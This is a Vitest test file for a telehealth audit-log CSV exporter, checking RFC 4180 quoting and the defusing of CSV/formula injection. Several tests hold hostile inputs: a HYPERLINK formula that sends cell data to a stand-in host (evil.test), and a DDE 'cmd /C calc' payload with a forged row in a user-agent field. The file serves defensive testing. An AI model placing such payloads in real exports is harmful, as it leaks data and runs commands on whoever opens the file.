import { describe, expect, it } from 'vitest';
import type { AuditEvent } from '@telehealth/contracts/audit';
import { csvField, csvHeader, csvLine } from './audit-csv.js';

/** A strict RFC 4180 reader for one record (CRLF-terminated), to check what a spreadsheet would see. */
function parseRecord(line: string): string[] {
  expect(line.endsWith('\r\n')).toBe(true);
  const s = line.slice(0, -2);
  const fields: string[] = [];
  let i = 0;
  for (;;) {
    let value = '';
    if (s[i] === '"') {
      i++;
      for (;;) {
        const q = s.indexOf('"', i);
        if (q < 0) throw new Error('unterminated quoted field');
        value += s.slice(i, q);
        if (s[q + 1] === '"') {
          value += '"';
          i = q + 2;
        } else {
          i = q + 1;
          break;
        }
      }
    } else {
      const end = s.indexOf(',', i);
      value = s.slice(i, end < 0 ? s.length : end);
      if (value.includes('"')) throw new Error('bare quote in unquoted field');
      i = end < 0 ? s.length : end;
    }
    fields.push(value);
    if (i >= s.length) return fields;
    if (s[i] !== ',') throw new Error(`expected a comma at ${i}`);
    i++;
  }
}

function event(over: Partial<AuditEvent> = {}): AuditEvent {
  return {
    seq: 42,
    eventTime: '2026-01-15T14:00:00.000Z',
    userId: '11111111-1111-4111-8111-111111111111',
    role: 'admin,clinician',
    organizationId: '22222222-2222-4222-8222-222222222222',
    patientId: null,
    action: 'patient.read',
    resourceType: 'patient',
    resourceId: '33333333-3333-4333-8333-333333333333',
    outcome: 'success',
    sourceIp: '127.0.0.1',
    userAgent: 'Mozilla/5.0 (X11; Linux x86_64)',
    requestId: 'req-1',
    detail: { fields: ['givenName', 'email'], count: 2 },
    hash: 'a'.repeat(64),
    ...over,
  };
}

describe('csvField (RFC 4180)', () => {
  it('leaves plain values bare', () => {
    expect(csvField('patient.read')).toBe('patient.read');
    expect(csvField('')).toBe('');
  });

  it('writes null and undefined as empty fields', () => {
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
  });

  it('quotes fields with commas, quotes, CR or LF and doubles inner quotes', () => {
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('line1\nline2')).toBe('"line1\nline2"');
    expect(csvField('line1\r\nline2')).toBe('"line1\r\nline2"');
  });

  it('writes objects as JSON in one quoted field', () => {
    expect(csvField({ a: 1, b: 'x' })).toBe('"{""a"":1,""b"":""x""}"');
  });

  it.each(['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1'])('neutralises the formula trigger in %j with a leading apostrophe', (v) => {
    const out = csvField(v);
    const cell = out.startsWith('"') ? parseRecord(`${out}\r\n`)[0]! : out;
    expect(cell).toBe(`'${v}`);
  });

  it('neutralises a formula that also needs quoting', () => {
    const v = '=HYPERLINK("http://evil.test/?x="&A1,"click")';
    const out = csvField(v);
    expect(out.startsWith('"\'=')).toBe(true);
    expect(parseRecord(`${out}\r\n`)).toEqual([`'${v}`]);
  });

  it('does not alter values that merely contain formula characters later on', () => {
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField('x-y@z')).toBe('x-y@z');
  });
});

describe('csvLine and csvHeader', () => {
  it('writes a CRLF-terminated header with one column per event field', () => {
    const header = parseRecord(csvHeader());
    expect(header).toEqual([
      'seq', 'event_time', 'user_id', 'role', 'organization_id', 'patient_id', 'action', 'resource_type',
      'resource_id', 'outcome', 'source_ip', 'user_agent', 'request_id', 'detail', 'hash',
    ]);
  });

  it('writes one record whose fields read back to the event values', () => {
    const e = event();
    const fields = parseRecord(csvLine(e));
    expect(fields).toHaveLength(parseRecord(csvHeader()).length);
    expect(fields).toEqual([
      '42', e.eventTime, e.userId, 'admin,clinician', e.organizationId, '', 'patient.read', 'patient', e.resourceId,
      'success', '127.0.0.1', 'Mozilla/5.0 (X11; Linux x86_64)', 'req-1', JSON.stringify(e.detail), e.hash,
    ]);
  });

  it('keeps an attacker-controlled user agent inside its own field and inert', () => {
    const agent = '=cmd|\' /C calc\'!A0,"x"\r\nforged,row';
    const fields = parseRecord(csvLine(event({ userAgent: agent })));
    expect(fields).toHaveLength(15);
    expect(fields[11]).toBe(`'${agent}`);
    expect(fields[14]).toBe('a'.repeat(64));
  });

  it('neutralises formula triggers in the request id and resource id too', () => {
    const fields = parseRecord(csvLine(event({ requestId: '@evil', resourceId: '+1' })));
    expect(fields[12]).toBe("'@evil");
    expect(fields[8]).toBe("'+1");
  });
});
